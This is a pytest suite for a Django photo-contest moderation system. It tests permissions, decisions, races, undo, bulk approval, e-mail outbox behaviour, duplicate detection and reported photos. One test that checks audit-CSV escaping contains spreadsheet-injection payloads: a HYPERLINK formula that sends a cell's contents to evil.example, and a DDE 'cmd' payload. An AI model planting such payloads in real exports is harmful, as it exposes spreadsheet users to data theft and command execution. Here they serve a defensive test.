"""Moderation: permissions for every persona, decisions, races, undo, bulk, rotation,
e-mails sent once, audit log, duplicates, and flat query counts."""

from __future__ import annotations

import csv
import io
import threading
from collections.abc import Callable
from datetime import timedelta

import pytest
from django.core import mail
from django.db import connection, connections
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from contest.models import Contest, Entry, Participant
from moderation import services
from moderation.models import DuplicateMatch, ModerationEvent
from moderation.services import DecisionConflict, entry_decide
from notifications.models import OutboxMessage
from photos.models import Photo
from photos.selectors import renditions_hash
from photos.services import photo_process
from tests.conftest import PERSONAS, service_missing
from tests.factories import ParticipantFactory, UserFactory
from tests.http import csrf_post
from tests.mail import UNDO_WINDOW, deliver_mail

pytestmark = pytest.mark.django_db
ReadyEntry = Callable[..., Entry]


def _seen(entry: Entry) -> str:
    return renditions_hash(entry.photo.renditions.all())


def _approve(entry: Entry, moderator: object, **kwargs: object) -> services.Decision:
    return entry_decide(
        entry_id=entry.pk,
        version=entry.version,
        moderator=moderator,  # type: ignore[arg-type]
        approve=True,
        seen_renditions=_seen(entry),
        **kwargs,  # type: ignore[arg-type]
    )


def _refuse(
    entry: Entry, moderator: object, reason: str = "off_topic", note: str = ""
) -> services.Decision:
    return entry_decide(
        entry_id=entry.pk,
        version=entry.version,
        moderator=moderator,  # type: ignore[arg-type]
        approve=False,
        reason=reason,
        note=note,
    )


# --- permissions -------------------------------------------------------------------------


@pytest.mark.parametrize("persona", PERSONAS)
def test_it_lets_only_moderators_see_the_moderation_pages(
    persona: str, persona_client: Callable[[str], Client], ready_entry: ReadyEntry
) -> None:
    entry = ready_entry()
    client = persona_client(persona)
    urls = [
        reverse("moderation:queue"),
        reverse("moderation:triage_start"),
        reverse("moderation:triage_entry", args=[entry.pk]),
        reverse("moderation:audit_csv"),
        reverse("moderation:original", args=[entry.photo.public_id]),
    ]
    for url in urls:
        status = client.get(url).status_code
        if persona == "moderator":
            assert status == 200, url
        elif persona == "anonymous":
            assert status == 302, url
        else:
            assert status == 403, (persona, url)


@pytest.mark.parametrize("persona", PERSONAS)
def test_it_lets_only_moderators_decide(
    persona: str, persona_client: Callable[[str], Client], ready_entry: ReadyEntry
) -> None:
    entry = ready_entry()
    client = persona_client(persona)
    response = csrf_post(
        client,
        reverse("moderation:triage_decide", args=[entry.pk]),
        {"action": "approve", "version": entry.version, "renditions": _seen(entry)},
        page=reverse("contest:home"),
    )
    entry.refresh_from_db()
    if persona == "moderator":
        assert entry.moderation == Entry.Moderation.APPROVED
    else:
        assert response.status_code in (302, 403)
        assert entry.moderation == Entry.Moderation.PENDING


# --- decisions, e-mails ------------------------------------------------------------------


def test_it_approves_audits_and_mails_the_participant_once(
    ready_entry: ReadyEntry, moderator: object
) -> None:
    entry = ready_entry(title="Tram au crépuscule")
    decision = _approve(entry, moderator)
    entry.refresh_from_db()
    assert entry.moderation == Entry.Moderation.APPROVED
    assert entry.decided_by == moderator
    assert entry.approved_renditions == _seen(entry)
    event = decision.event
    assert (event.action, event.from_state, event.to_state) == ("approve", "pending", "approved")
    assert event.email == ModerationEvent.Email.PENDING

    assert not deliver_mail()  # not before the undo window is over
    assert len(deliver_mail(later=UNDO_WINDOW)) == 1
    assert len(deliver_mail(later=UNDO_WINDOW)) == 1  # a re-run sends nothing
    message = mail.outbox[0]
    assert message.to == [entry.participant.email]
    assert "Tram au crépuscule" in message.subject
    assert "publiée" in message.subject  # French by default
    event.refresh_from_db()
    assert event.email == ModerationEvent.Email.SENT


def test_it_mails_only_the_decision_that_stands_when_a_later_one_overtakes_it(
    ready_entry: ReadyEntry, moderator: object
) -> None:
    entry = ready_entry(title="Gare routière")
    first = _approve(entry, moderator).event
    entry.refresh_from_db()
    second = _refuse(entry, moderator).event
    [message] = deliver_mail(later=UNDO_WINDOW)
    assert message.subject == "Votre photo « Gare routière » n'a pas été retenue"
    first.refresh_from_db()
    second.refresh_from_db()
    assert (first.email, second.email) == (
        ModerationEvent.Email.CANCELLED,
        ModerationEvent.Email.SENT,
    )


def test_it_writes_the_refusal_in_the_participants_language_with_a_link_to_try_again(
    contest: Contest, ready_entry: ReadyEntry, moderator: object
) -> None:
    english = ParticipantFactory(user=UserFactory(email="sam@example.org"), language="en")
    entry = ready_entry(participant=english, title="Night bus")
    _refuse(entry, moderator, reason="low_quality")
    [message] = deliver_mail(later=UNDO_WINDOW)
    assert message.subject == "Your photo “Night bus” was not accepted"
    body = message.body
    assert "Quality too low" in body
    assert reverse("contest:upload", args=[contest.slug]) in body


def test_it_does_not_invite_to_resend_after_an_offensive_photo(
    ready_entry: ReadyEntry, moderator: object, contest: Contest
) -> None:
    _refuse(ready_entry(), moderator, reason="offensive")
    body = deliver_mail(later=UNDO_WINDOW)[0].body
    assert "Choquante" in body or "Offensante" in body or "offens" in body.lower()
    assert reverse("contest:upload", args=[contest.slug]) not in body


def test_it_requires_a_note_for_the_other_reason(
    ready_entry: ReadyEntry, moderator: object
) -> None:
    entry = ready_entry()
    client = Client()
    client.force_login(moderator)  # type: ignore[arg-type]
    response = client.post(
        reverse("moderation:triage_decide", args=[entry.pk]),
        {"action": "refuse", "reason": "other", "version": entry.version},
        HTTP_HX_REQUEST="true",
    )
    assert response.status_code == 200
    entry.refresh_from_db()
    assert entry.moderation == Entry.Moderation.PENDING
    client.post(
        reverse("moderation:triage_decide", args=[entry.pk]),
        {"action": "refuse", "reason": "other", "note": "Photo floue", "version": entry.version},
        HTTP_HX_REQUEST="true",
    )
    entry.refresh_from_db()
    assert (entry.moderation, entry.refusal_code, entry.refusal_reason) == (
        "refused",
        "other",
        "Photo floue",
    )


def test_it_shows_the_participant_the_refusal_reason(
    ready_entry: ReadyEntry, moderator: object, entrant: Participant, contest: Contest
) -> None:
    _refuse(ready_entry(), moderator, reason="copyright")
    client = Client()
    client.force_login(entrant.user)
    page = client.get(reverse("contest:my_entries", args=[contest.slug])).content.decode()
    assert "droits d" in page.lower() or "auteur" in page.lower()


# --- races -------------------------------------------------------------------------------


def test_it_tells_the_second_moderator_who_decided_first(
    ready_entry: ReadyEntry, moderator: object, other_moderator: object
) -> None:
    entry = ready_entry()
    _approve(entry, moderator)
    with pytest.raises(DecisionConflict) as conflict:
        _refuse(entry, other_moderator)  # same version as the first one saw
    assert "modo@reseau.example" in conflict.value.message
    entry.refresh_from_db()
    assert entry.moderation == Entry.Moderation.APPROVED
    assert ModerationEvent.objects.filter(entry=entry).count() == 1


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_it_lets_exactly_one_of_two_simultaneous_decisions_win(
    ready_entry: ReadyEntry, moderator: object, other_moderator: object
) -> None:
    if connection.vendor != "postgresql":
        service_missing("PostgreSQL (DATABASE_URL)")
    entry = ready_entry()
    seen = _seen(entry)
    barrier = threading.Barrier(2)
    outcomes: list[str] = []

    def decide(who: object, approve: bool) -> None:
        barrier.wait()
        try:
            entry_decide(
                entry_id=entry.pk,
                version=entry.version,
                moderator=who,  # type: ignore[arg-type]
                approve=approve,
                seen_renditions=seen,
                reason="" if approve else "off_topic",
            )
            outcomes.append("won")
        except DecisionConflict:
            outcomes.append("told")
        finally:
            connections.close_all()

    threads = [
        threading.Thread(target=decide, args=args)
        for args in ((moderator, True), (other_moderator, False))
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    assert sorted(outcomes) == ["told", "won"]
    assert ModerationEvent.objects.filter(entry=entry).count() == 1


def test_it_refuses_an_approval_of_renditions_the_moderator_did_not_see(
    ready_entry: ReadyEntry, moderator: object
) -> None:
    entry = ready_entry()
    with pytest.raises(DecisionConflict):
        entry_decide(
            entry_id=entry.pk,
            version=entry.version,
            moderator=moderator,  # type: ignore[arg-type]
            approve=True,
            seen_renditions="0" * 64,
        )
    entry.refresh_from_db()
    assert entry.moderation == Entry.Moderation.PENDING


# --- undo ---------------------------------------------------------------------------------


def test_it_undoes_a_decision_within_the_window_and_cancels_its_email(
    ready_entry: ReadyEntry, moderator: object
) -> None:
    entry = ready_entry()
    event = _approve(entry, moderator).event
    undone = services.entry_undo(event_id=event.pk, moderator=moderator)  # type: ignore[arg-type]
    assert undone.moderation == Entry.Moderation.PENDING
    assert undone.decided_by is None
    event.refresh_from_db()
    assert event.email == ModerationEvent.Email.CANCELLED
    assert not deliver_mail(later=UNDO_WINDOW)
    message = OutboxMessage.objects.get(key=f"decision:{event.pk}")
    assert message.state == OutboxMessage.State.CANCELLED
    assert list(entry.events.values_list("action", flat=True)) == ["undo", "approve"]
    # Decidable again, at its new version.
    _refuse(undone, moderator)


def test_it_refuses_to_undo_late_or_someone_elses_decision(
    ready_entry: ReadyEntry, moderator: object, other_moderator: object, settings: object
) -> None:
    entry = ready_entry()
    event = _approve(entry, moderator).event
    with pytest.raises(DecisionConflict):
        services.entry_undo(event_id=event.pk, moderator=other_moderator)  # type: ignore[arg-type]
    ModerationEvent.objects.filter(pk=event.pk).update(
        created_at=timezone.now() - timedelta(minutes=5)
    )
    with pytest.raises(DecisionConflict):
        services.entry_undo(event_id=event.pk, moderator=moderator)  # type: ignore[arg-type]
    entry.refresh_from_db()
    assert entry.moderation == Entry.Moderation.APPROVED


# --- bulk, rotation ----------------------------------------------------------------------


def test_it_decides_a_selection_and_reports_what_someone_else_decided(
    ready_entry: ReadyEntry, moderator: object, other_moderator: object
) -> None:
    entries = [ready_entry(seed=i) for i in range(3)]
    picks = [f"{e.pk}:{e.version}:{_seen(e)}" for e in entries]
    _refuse(entries[1], other_moderator)
    client = Client(enforce_csrf_checks=True)
    client.force_login(moderator)  # type: ignore[arg-type]
    response = csrf_post(
        client,
        reverse("moderation:bulk"),
        {"pick": picks, "action": "approve", "state": "pending"},
        page=reverse("moderation:queue"),
    )
    assert response.status_code == 302
    states = [Entry.objects.get(pk=e.pk).moderation for e in entries]
    assert states == ["approved", "refused", "approved"]
    shown = Client()
    shown.cookies = client.cookies
    page = client.get(response["Location"]).content.decode()
    assert "modo2@reseau.example" in page


def test_it_rotates_before_approving_and_keeps_the_entry_out_of_the_queue_until_ready(
    ready_entry: ReadyEntry, moderator: object
) -> None:
    from moderation.selectors import QueueFilters, moderation_queue

    entry = ready_entry()
    old_hash = _seen(entry)
    width, height = entry.photo.width, entry.photo.height
    rotated = services.entry_rotate(entry_id=entry.pk, version=entry.version, moderator=moderator)  # type: ignore[arg-type]
    assert entry.pk not in [e.pk for e in moderation_queue(QueueFilters())]
    photo_process(photo_id=rotated.photo.pk)
    photo = Photo.objects.get(pk=rotated.photo.pk)
    assert (photo.rotation, photo.width, photo.height) == (90, height, width)
    assert entry.pk in [e.pk for e in moderation_queue(QueueFilters())]
    rotated.refresh_from_db()
    with pytest.raises(DecisionConflict):  # what was seen before the rotation is gone
        entry_decide(
            entry_id=entry.pk,
            version=rotated.version,
            moderator=moderator,  # type: ignore[arg-type]
            approve=True,
            seen_renditions=old_hash,
        )
    _approve(Entry.objects.get(pk=entry.pk), moderator)
    assert ModerationEvent.objects.filter(entry=entry, action="rotate").exists()


# --- audit log, duplicates, full resolution -----------------------------------------------


def test_it_exports_the_audit_log_as_csv(ready_entry: ReadyEntry, moderator: object) -> None:
    _approve(ready_entry(title="A"), moderator)
    _refuse(ready_entry(seed=2, title="B"), moderator, reason="duplicate")
    client = Client()
    client.force_login(moderator)  # type: ignore[arg-type]
    response = client.get(reverse("moderation:audit_csv"))
    body = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [(r["title"], r["action"], r["reason"], r["moderator"]) for r in rows] == [
        ("A", "approve", "", "modo@reseau.example"),
        ("B", "refuse", "duplicate", "modo@reseau.example"),
    ]


def test_it_neutralises_formulas_in_the_audit_csv(
    ready_entry: ReadyEntry, moderator: object
) -> None:
    """A rider's title or a moderator's note that a spreadsheet would run as a formula is
    exported as text."""
    evil = '=HYPERLINK("https://evil.example/?"&A1,"Voir")'
    _refuse(ready_entry(title=evil), moderator, reason="other", note="+cmd|' /C calc'!A0")
    _approve(ready_entry(seed=2, title="@SUM(1+1)"), moderator)
    client = Client()
    client.force_login(moderator)  # type: ignore[arg-type]
    response = client.get(reverse("moderation:audit_csv"))
    body = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [r["title"] for r in rows] == ["'" + evil, "'@SUM(1+1)"]
    assert rows[0]["note"] == "'+cmd|' /C calc'!A0"
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


def test_it_warns_about_a_near_duplicate(
    ready_entry: ReadyEntry, moderator: object, other_entrant: Participant
) -> None:
    first = ready_entry(seed=4, title="Original")
    copy = ready_entry(seed=4, participant=other_entrant, title="Copie")
    different = ready_entry(seed=9, title="Sans rapport")
    assert services.entry_match_duplicates(entry_id=copy.pk) == 1
    assert DuplicateMatch.objects.filter(entry=first, other=copy).exists()
    assert not DuplicateMatch.objects.filter(entry=different).exists()
    client = Client()
    client.force_login(moderator)  # type: ignore[arg-type]
    queue = client.get(
        reverse("moderation:queue") + "?state=pending&duplicates=on"
    ).content.decode()
    assert "Original" in queue and "Copie" in queue and "Sans rapport" not in queue
    triage = client.get(reverse("moderation:triage_entry", args=[copy.pk])).content.decode()
    assert "Original" in triage
    # Above the decision buttons, where it is read before A is pressed.
    assert triage.index('id="dup-title"') < triage.index('data-key="a"')


def test_it_asks_before_approving_a_possible_duplicate(
    ready_entry: ReadyEntry, moderator: object, other_entrant: Participant
) -> None:
    ready_entry(seed=4, title="Original")
    copy = ready_entry(seed=4, participant=other_entrant, title="Copie")
    services.entry_match_duplicates(entry_id=copy.pk)
    client = Client(enforce_csrf_checks=True)
    client.force_login(moderator)  # type: ignore[arg-type]
    url = reverse("moderation:triage_decide", args=[copy.pk])
    approve = {"action": "approve", "version": copy.version, "renditions": _seen(copy)}

    asked = csrf_post(client, url, approve, page=reverse("moderation:triage_entry", args=[copy.pk]))
    copy.refresh_from_db()
    assert copy.moderation == Entry.Moderation.PENDING
    page = asked.content.decode()
    assert "Approuver quand même" in page
    assert 'name="duplicate_confirmed"' in page

    csrf_post(client, url, {**approve, "duplicate_confirmed": "on"})
    copy.refresh_from_db()
    assert copy.moderation == Entry.Moderation.APPROVED
    assert copy.decided_by == moderator


def test_it_leaves_possible_duplicates_out_of_a_bulk_approval(
    ready_entry: ReadyEntry, moderator: object, other_entrant: Participant
) -> None:
    first = ready_entry(seed=4, title="Original")
    copy = ready_entry(seed=4, participant=other_entrant, title="Copie")
    different = ready_entry(seed=9, title="Sans rapport")
    services.entry_match_duplicates(entry_id=copy.pk)
    client = Client(enforce_csrf_checks=True)
    client.force_login(moderator)  # type: ignore[arg-type]
    response = csrf_post(
        client,
        reverse("moderation:bulk"),
        {
            "pick": [f"{e.pk}:{e.version}:{_seen(e)}" for e in (first, copy, different)],
            "action": "approve",
            "state": "pending",
        },
        page=reverse("moderation:queue"),
    )
    states = [Entry.objects.get(pk=e.pk).moderation for e in (first, copy, different)]
    assert states == ["pending", "pending", "approved"]
    page = client.get(response["Location"]).content.decode()
    assert "Copie" in page and "ressemble à une autre" in page


def test_it_offers_to_turn_a_photo_with_a_key_no_one_reads_as_a_zero(
    ready_entry: ReadyEntry, moderator: object
) -> None:
    entry = ready_entry()
    client = Client()
    client.force_login(moderator)  # type: ignore[arg-type]
    page = client.get(reverse("moderation:triage_entry", args=[entry.pk])).content.decode()
    assert 'data-key="t">Tourner ↻ (T)</button>' in page
    assert "<kbd>T</kbd></dt><dd>Tourner la photo" in page
    assert "<kbd>O</kbd>" not in page and "(O)" not in page


def test_it_shows_a_heic_original_to_moderators_as_jpeg(
    contest: Contest, entrant: Participant, moderator: object
) -> None:
    import pillow_heif
    from django.core.files.base import ContentFile
    from PIL import Image

    from photos.services import originals_storage
    from tests.factories import EntryFactory

    pillow_heif.register_heif_opener()
    buffer = io.BytesIO()
    Image.new("RGB", (640, 480), (200, 30, 30)).save(buffer, "HEIF")
    name = originals_storage().save("x.heic", ContentFile(buffer.getvalue()))
    photo = Photo.objects.create(original=name, original_format="HEIF", original_bytes=1)
    EntryFactory(contest=contest, participant=entrant, photo=photo)
    client = Client()
    client.force_login(moderator)  # type: ignore[arg-type]
    response = client.get(reverse("moderation:original", args=[photo.public_id]))
    assert response["Content-Type"] == "image/jpeg"
    assert response["Cache-Control"] == "private, no-store"
    assert Image.open(io.BytesIO(b"".join(response.streaming_content))).size == (640, 480)  # type: ignore[attr-defined]


# --- speed: queries per page stay flat ------------------------------------------------------


def _queries(client: Client, url: str, **extra: str) -> int:
    with CaptureQueriesContext(connection) as queries:
        assert client.get(url, **extra).status_code == 200
    return len(queries)


def test_it_renders_triage_and_queue_in_a_fixed_number_of_queries(
    ready_entry: ReadyEntry, moderator: object, other_entrant: Participant
) -> None:
    client = Client()
    client.force_login(moderator)  # type: ignore[arg-type]
    first = ready_entry(seed=1)
    ready_entry(seed=2)
    small_triage = _queries(
        client, reverse("moderation:triage_entry", args=[first.pk]), HTTP_HX_REQUEST="true"
    )
    small_queue = _queries(client, reverse("moderation:queue"))
    for seed in range(3, 15):
        ready_entry(seed=seed, participant=other_entrant if seed % 2 else None)
    services.entry_match_duplicates(entry_id=first.pk)
    assert (
        _queries(
            client, reverse("moderation:triage_entry", args=[first.pk]), HTTP_HX_REQUEST="true"
        )
        == small_triage
    )
    assert _queries(client, reverse("moderation:queue")) == small_queue


# --- reported photos ------------------------------------------------------------------------


def _reported(entry: Entry, *, times: int, email: str = "") -> Entry:
    from moderation.reports import entry_report

    for n in range(times):
        entry_report(
            entry=entry,
            reason="inappropriate",
            message="",
            email=email if n == 0 else "",
            ip_address=f"203.0.113.{n + 1}",
            language="fr",
        )
    entry.refresh_from_db()
    return entry


def test_it_tells_the_reporter_once_that_the_photo_stays(
    ready_entry: ReadyEntry, moderator: object, settings: object
) -> None:
    entry = ready_entry(title="Pont de pierre")
    _approve(entry, moderator)
    entry = _reported(Entry.objects.get(pk=entry.pk), times=3, email="vigilant@example.org")
    assert entry.flagged and entry.hidden
    decision = _approve(entry, moderator)  # "keep published"
    entry.refresh_from_db()
    assert (entry.flagged, entry.hidden, entry.moderation) == (False, False, "approved")
    assert decision.event.email == ModerationEvent.Email.NONE  # the participant is not mailed
    deliver_mail(later=UNDO_WINDOW)
    deliver_mail(later=UNDO_WINDOW)  # a re-run sends nothing
    answers = [m for m in mail.outbox if m.to == ["vigilant@example.org"]]
    assert len(answers) == 1
    assert answers[0].subject == "Votre signalement d'une photo du concours"
    assert "Pont de pierre" in answers[0].body
    assert "elle reste dans la galerie" in answers[0].body


def test_it_tells_the_reporter_later_when_the_mail_server_failed(
    ready_entry: ReadyEntry, moderator: object, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The answer is an outbox message: a mail server down delays it, the retry sends it."""
    import smtplib

    from notifications import services as outbox

    entry = ready_entry(title="Pont de pierre")
    _approve(entry, moderator)
    entry = _reported(Entry.objects.get(pk=entry.pk), times=1, email="vigilant@example.org")
    _approve(entry, moderator)

    def down(**kwargs: object) -> None:
        raise smtplib.SMTPServerDisconnected("gone")

    monkeypatch.setattr(outbox.tasks.send_message, "apply_async", lambda *a, **k: None)
    with monkeypatch.context() as patched:
        patched.setattr(outbox, "send_templated_mail", down)
        assert not deliver_mail(later=UNDO_WINDOW)
    answer = OutboxMessage.objects.get(to="vigilant@example.org")
    assert (answer.state, answer.attempts) == (OutboxMessage.State.PENDING, 1)
    assert "gone" in answer.last_error
    deliver_mail(later=UNDO_WINDOW + timedelta(minutes=1))  # the retry falls due
    assert [m.to for m in mail.outbox].count(["vigilant@example.org"]) == 1


def test_it_puts_the_report_flags_back_when_a_decision_is_undone(
    ready_entry: ReadyEntry, moderator: object
) -> None:
    entry = ready_entry()
    _approve(entry, moderator)
    entry = _reported(Entry.objects.get(pk=entry.pk), times=3, email="v@example.org")
    event = _refuse(entry, moderator, reason="offensive").event
    undone = services.entry_undo(event_id=event.pk, moderator=moderator)  # type: ignore[arg-type]
    assert (undone.moderation, undone.flagged, undone.hidden) == ("approved", True, True)
    assert not deliver_mail(later=UNDO_WINDOW)  # undone: nobody is told
    # The reports wait for the next decision, which answers them.
    _approve(undone, moderator)
    assert [m.to for m in deliver_mail(later=UNDO_WINDOW)] == [["v@example.org"]]
